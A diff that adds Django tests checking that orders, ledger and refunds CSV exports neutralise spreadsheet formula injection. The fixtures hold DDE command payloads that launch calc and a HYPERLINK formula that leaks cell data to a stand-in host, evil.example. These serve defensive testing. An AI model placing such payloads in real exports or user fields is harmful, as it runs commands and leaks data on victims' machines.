@@ -657,3 +657,86 @@ def test_order_list_offers_the_csv_export_with_its_filters_to_finance_only(users
     assert reverse("dashboard:export_orders") + "?status=FAILED" in finance_html
     support_html = client_for(users["support"]).get(url).content.decode()
     assert reverse("dashboard:export_orders") not in support_html
+
+
+# --- CSV formula injection (OWASP) ------------------------------------------------
+
+CALC = "=cmd|'/ccalc'!a0@example.com"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+
+
+def test_orders_export_neutralises_cells_a_spreadsheet_would_run(as_role):
+    """Issue 11, finding 6: a customer's e-mail reaches the orders export as text."""
+    client = ClientFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    formula = OrderFactory(
+        client=client,
+        reference_code="+1+cmd|'/ccalc'!A0",
+        product_name="-2+3",
+        customer_name=CALC,
+        customer_email=CALC,
+        placed_at=datetime(2025, 1, 1, tzinfo=UTC),
+    )
+    control = OrderFactory(
+        client=client,
+        reference_code="\tTAB",
+        product_name="\r=CR",
+        customer_email="grace@example.com",
+        placed_at=datetime(2025, 1, 2, tzinfo=UTC),
+    )
+    plain_number = OrderFactory(
+        client=client,
+        reference_code="-10.00",
+        product_name="+42",
+        placed_at=datetime(2025, 1, 3, tzinfo=UTC),
+    )
+
+    rows = _csv_rows(
+        as_role("finance").get(
+            reverse("dashboard:export_orders"), {"client": client.pk, "sort": "oldest"}
+        )
+    )
+    cells = {int(row[0]): dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    first, second, third = cells[formula.pk], cells[control.pk], cells[plain_number.pk]
+    assert first["customer_email"] == "'" + CALC
+    assert first["client"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert first["reference_code"] == "'+1+cmd|'/ccalc'!A0"
+    assert first["product"] == "'-2+3"
+    assert (second["reference_code"], second["product"]) == ("'\tTAB", "'\r=CR")
+    assert second["customer_email"] == "grace@example.com"
+    # Plain numbers stay numbers, in text columns and money columns alike.
+    assert (third["reference_code"], third["product"]) == ("-10.00", "+42")
+    assert first["amount"] == str(formula.amount) and first["quantity"] == str(formula.quantity)
+
+
+def test_ledger_export_neutralises_a_formula_reason_and_keeps_signed_amounts(as_role, wallet):
+    system = Actor.system("test")
+    wallet_top_up(wallet_id=wallet.pk, amount="5.00", actor=system, note=HYPERLINK)
+    as_role("admin").post(
+        reverse("dashboard:wallet_adjust", args=[wallet.pk]),
+        {"amount": "-10.00", "reason": "-10.00"},
+    )
+
+    rows = _csv_rows(as_role("finance").get(reverse("dashboard:export_ledger", args=[wallet.pk])))
+    adjustment, top_up, _opening = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
+    assert top_up["note"] == "'" + HYPERLINK
+    assert (top_up["amount"], top_up["balance_after"]) == ("5.00", "105.00")
+    assert (adjustment["amount"], adjustment["note"]) == ("-10.00", "-10.00")
+    assert adjustment["balance_after"] == "95.00"
+
+
+def test_refunds_export_neutralises_a_formula_reviewer_name(as_role):
+    order = refundable_order(amount="30.00")
+    reviewer = UserFactory(username="@evil", role="finance")
+    client_for(reviewer).post(
+        reverse("dashboard:refund_decide"),
+        {"order": [order.pk], "decision": "HOLD", "note": "look"},
+    )
+    Order.objects.filter(pk=order.pk).update(customer_email=CALC)
+
+    rows = _csv_rows(
+        as_role("finance").get(reverse("dashboard:export_refunds"), {"include_stopped": "on"})
+    )
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["latest_reviewer"] == "'@evil"
+    assert row["customer_email"] == "'" + CALC
+    assert (row["latest_decision"], row["refund_amount"]) == ("HOLD", "30.00")
